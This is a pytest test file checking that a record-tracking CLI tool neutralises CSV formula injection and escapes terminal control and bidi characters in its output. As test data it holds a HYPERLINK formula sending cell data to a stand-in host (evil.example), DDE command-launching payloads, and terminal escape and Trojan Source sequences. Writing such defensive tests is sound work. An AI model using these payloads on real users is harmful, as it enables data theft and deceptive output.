"""Outputs that cannot be turned against their reader (SPEC §10): CSV exports neutralise formula
cells, terminal output shows control characters escaped while JSON stays valid, human `history`
shows values whole and `show` says yes/no."""

from __future__ import annotations

import csv
import io
import json
from typing import TYPE_CHECKING, Any

import pytest

from capa.cli.output import csv_cell, json_text, terminal_safe

if TYPE_CHECKING:
    from conftest import Capa

#: Titles a spreadsheet would run. Tab and carriage return, which some spreadsheets drop before
#: running the rest, cannot start a title (one line, trimmed); csv_cell is tested with them.
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click for details")',
            "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C notepad'!A0", "-2+3"]
#: Characters a terminal acts on: CSI colour, OSC window title, BEL, backspace, CR, a C1 CSI,
#: DEL and the bidi override / isolate of Trojan Source.
HOSTILE = ("Cracked \x1b[31mhousing\x1b[0m \x1b]0;owned\x07 \x08\x08ok\rFAKE \x9b2J \x7f "
           "\u202eevil\u202c \u2066iso\u2069 end")
ESCAPES = ("\\x1b[31m", "\\x1b]0;owned\\x07", "\\x08\\x08", "\\x0dFAKE", "\\x9b2J", "\\x7f",
           "\\u202eevil\\u202c", "\\u2066iso\\u2069")
RAW = ("\x1b", "\x07", "\x08", "\r", "\x9b", "\x7f", "\u202e", "\u202c", "\u2066", "\u2069")


def strings(data: Any) -> set[str]:
    """Every string a JSON document holds, however deep."""
    if isinstance(data, str):
        return {data}
    if isinstance(data, dict):
        return set().union(*map(strings, data.values())) if data else set()
    if isinstance(data, list):
        return set().union(*map(strings, data)) if data else set()
    return set()


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


# -- CSV --------------------------------------------------------------------------------------


def test_csv_export_neutralises_every_formula_cell(capa: Capa) -> None:
    refs = {capa.nc(title): title for title in FORMULAS}
    plain = capa.nc("Plain title, with a comma and ünïcode")
    out = capa.folder / "records.csv"
    assert capa.run("export", "--format", "csv", "--out", str(out)).code == 0
    rows = {r["id"]: r for r in csv_rows(out.read_text(encoding="utf-8"))}
    for ref, title in refs.items():
        assert rows[ref]["title"] == "'" + title
    assert rows[plain]["title"] == "Plain title, with a comma and ünïcode"
    # Numbers capa itself writes stay numbers.
    assert rows[plain]["version"] == "1"
    for row in rows.values():
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    # To standard output as well.
    printed = {r["id"]: r for r in csv_rows(capa.run("export", "--format", "csv").stdout)}
    assert printed[next(iter(refs))]["title"] == "'" + FORMULAS[0]
    # JSON is data, not a spreadsheet: the title stays as it was typed.
    data = capa.run("--json", "export", "--format", "csv").json()
    assert {r["id"]: r["title"] for r in data}[next(iter(refs))] == FORMULAS[0]


def test_csv_cell_leaves_numbers_and_safe_text_alone() -> None:
    assert csv_cell(-2) == -2 and csv_cell(3.5) == 3.5 and csv_cell(None) is None
    assert csv_cell("Lot -2") == "Lot -2" and csv_cell("") == ""
    assert csv_cell("-2") == "'-2" and csv_cell("=1") == "'=1"
    assert csv_cell("\t=1+1") == "'\t=1+1" and csv_cell("\r=1+1") == "'\r=1+1"
    assert csv_cell("@SUM(A1)") == "'@SUM(A1)" and csv_cell("+1") == "'+1"


def test_bom_makes_excel_read_utf8(capa: Capa) -> None:
    ref = capa.nc("Gehäuse gerissen — fissuré, 破裂")
    out = capa.folder / "records.csv"
    outcome = capa.run("--json", "export", "--format", "csv", "--bom", "--out", str(out))
    assert outcome.code == 0, outcome.stderr
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfid,kind,")
    assert outcome.json()["bytes"] == len(data)
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert {r["id"]: r["title"] for r in rows}[ref] == "Gehäuse gerissen — fissuré, 破裂"
    without = capa.folder / "plain.csv"
    assert capa.run("export", "--format", "csv", "--out", str(without)).code == 0
    assert without.read_bytes().startswith(b"id,kind,")


def test_bom_is_only_for_csv(capa: Capa) -> None:
    out = capa.folder / "events.jsonl"
    error = capa.refused("export", "--format", "jsonl", "--bom", "--out", str(out), code=2)
    assert "--bom" in error["message"]
    assert not out.exists()


# -- terminal ---------------------------------------------------------------------------------


def test_terminal_safe_escapes_controls_and_keeps_newlines() -> None:
    shown = terminal_safe(HOSTILE + "\nsecond line\ttab")
    for raw in RAW:
        assert raw not in shown
    for escape in ESCAPES:
        assert escape in shown
    assert shown.endswith("\nsecond line\\x09tab")
    assert terminal_safe("Ünïcode 破裂 שלום مرحبا") == "Ünïcode 破裂 שלום مرحبا"


def test_json_text_is_valid_json_and_inert() -> None:
    value = {"title": HOSTILE + "\u2028\u2029"}
    text = json_text(value)
    assert json.loads(text) == value
    for raw in (*RAW, "\u2028", "\u2029"):
        assert raw not in text


#: A title is one line (no C0 or C1 control) but may carry bidi controls.
BIDI_TITLE = "Cracked \u202eevil\u202c \u2066iso\u2069 housing"


@pytest.mark.parametrize("view", ["show", "list", "history", "history --diff"])
def test_human_output_shows_hostile_text_escaped(capa: Capa, view: str) -> None:
    ref = str(capa.write("nc", "raise", "--title", BIDI_TITLE, "--description", HOSTILE,
                         "--source", "process", "--severity", "minor",
                         user=capa.reporter)["id"])
    args = {"show": ["nc", "show", ref], "list": ["nc", "list"], "history": ["history", ref],
            "history --diff": ["history", ref, "--diff"]}[view]
    outcome = capa.run(*args)
    assert outcome.code == 0, outcome.stderr
    for raw in RAW:
        assert raw not in outcome.stdout
    assert "\\u202eevil\\u202c \\u2066iso\\u2069" in outcome.stdout
    if view != "list":  # the list shows no description
        for escape in ESCAPES:
            assert escape in outcome.stdout
    as_json = capa.run("--json", *args)
    data = as_json.json()
    assert HOSTILE in strings(data) or view == "list"
    assert BIDI_TITLE in strings(data)
    for raw in RAW:
        assert raw not in as_json.stdout


def test_error_messages_show_hostile_input_escaped(capa: Capa) -> None:
    outcome = capa.run("nc", "show", "NC-\x1b]0;owned\x07")
    assert outcome.code == 2
    assert "\x1b" not in outcome.stderr and "\x07" not in outcome.stderr
    assert outcome.stderr.count("\n") == 1
    as_json = capa.run("--json", "history", "\u202eNC-2026-0001")
    assert as_json.code == 2
    assert "\u202e" not in as_json.stderr
    # The message quotes the input as Python does (repr), escaped already.
    assert "\\u202e" in as_json.error()["message"]


# -- history and show -------------------------------------------------------------------------


def test_history_shows_a_long_rationale_whole_and_wrapped(capa: Capa) -> None:
    words = [f"word{n:03d}" for n in range(90)]
    rationale = "Isolated: " + " ".join(words) + " " + "Z" * 150
    ref = capa.nc()
    capa.write("nc", "assess", ref, "--impact", "1", "--likelihood", "1",
               "--no-capa-required", "--rationale", rationale, user=capa.quality_engineer)
    outcome = capa.run("history", ref)
    assert outcome.code == 0, outcome.stderr
    assert "..." not in outcome.stdout and "…" not in outcome.stdout
    lines = outcome.stdout.splitlines()
    assert all(len(line) <= 100 for line in lines if not line.startswith("#")), lines
    # Every word is there, in order, once the wrapping is undone.
    joined = " ".join(line.strip() for line in lines)
    at = joined.index("Isolated:")
    assert " ".join(words) in joined[at:]
    assert "Z" * 150 in joined.replace(" ", "")
    diff = capa.run("history", ref, "--diff")
    assert rationale in diff.stdout


def test_show_says_yes_and_no(capa: Capa) -> None:
    yes, no = capa.assessed_nc(), capa.assessed_nc("Label", capa_required=False)
    shown_yes, shown_no = capa.run("nc", "show", yes).stdout, capa.run("nc", "show", no).stdout
    assert "capa_required: yes" in shown_yes and "capa_required: no" in shown_no
    assert "True" not in shown_yes and "False" not in shown_no
    assert capa.run("--json", "nc", "show", yes).json()["assessment"]["capa_required"] is True


@pytest.mark.parametrize("name", ["jchen", "USER-jchen", "user-JCHEN", " JChen "])
def test_history_of_a_user_by_id_or_record_ref(capa: Capa, name: str) -> None:
    outcome = capa.run("--json", "history", name)
    assert outcome.code == 0, outcome.stderr
    entries = outcome.json()
    assert entries[0]["event_type"] == "UserAdded"
    assert any(c["new"] == "jchen" for c in entries[0]["changes"] if c["field"] == "user_id")


def test_history_of_an_unknown_user_is_not_found(capa: Capa) -> None:
    capa.refused("history", "USER-nobody", code=3)
    capa.refused("history", "nobody", code=3)


def test_an_error_line_is_escaped_whatever_the_message_holds(
        capsys: pytest.CaptureFixture[str]) -> None:
    from capa.cli.output import error

    error(False, 2, "bad \x1b[2J\rline\u202e")
    error(True, 2, "bad \x9b\u202e")
    lines = capsys.readouterr().err.splitlines()
    assert lines[0] == "capa: bad \\x1b[2J\\x0dline\\u202e"
    assert "\x9b" not in lines[1] and "\u202e" not in lines[1]
    assert json.loads(lines[1])["error"]["message"] == "bad \x9b\u202e"


def test_json_lines_export_is_exact_and_inert(capa: Capa) -> None:
    description = "line \u2028 " + HOSTILE
    ref = str(capa.write("nc", "raise", "--title", BIDI_TITLE, "--description", description,
                         "--source", "process", "--severity", "minor",
                         user=capa.reporter)["id"])
    outcome = capa.run("export", "--format", "jsonl")
    assert outcome.code == 0
    for raw in (*RAW, "\u2028"):
        assert raw not in outcome.stdout
    raised = [json.loads(line) for line in outcome.stdout.splitlines()
              if json.loads(line)["record"] == ref]
    assert raised[0]["state"]["title"] == BIDI_TITLE
    assert raised[0]["state"]["description"] == description


def test_an_argument_that_is_not_utf8_is_refused_before_anything_is_written(capa: Capa) -> None:
    # The byte 0x9b alone (a C1 CSI in Latin-1) is not UTF-8: Python hands it over as U+DC9B.
    error = capa.refused("nc", "raise", "--title", "Cracked", "--description", "bad \udc9b2J",
                         "--source", "process", "--severity", "minor", user=capa.reporter,
                         code=2)
    assert "UTF-8" in error["message"]
    plain = capa.run("nc", "raise", "--title", "x\udc9b")
    assert plain.code == 2 and plain.stderr.count("\n") == 1
    assert "\udc9b" not in plain.stderr


def test_tables_and_write_results_say_yes_and_no() -> None:
    from capa.cli.output import table, written

    shown = table([["NC-2026-0001", True], ["NC-2026-0002", False]], ["id", "capa required"])
    assert shown.splitlines()[1:] == ["NC-2026-0001  yes", "NC-2026-0002  no"]
    assert written({"id": "NC-2026-0001", "status": "assessed", "version": 2,
                    "capa_required": True}) == \
        "NC-2026-0001: assessed (version 2); capa_required yes"


def test_a_hostile_cell_keeps_the_columns_aligned() -> None:
    from capa.cli.output import table

    shown = table([["\u202eab", "x"], ["plain", "y"]], ["title", "next"]).splitlines()
    assert [line.index(letter) for line, letter in zip(shown[1:], "xy", strict=True)] == \
        [shown[0].index("NEXT")] * 2
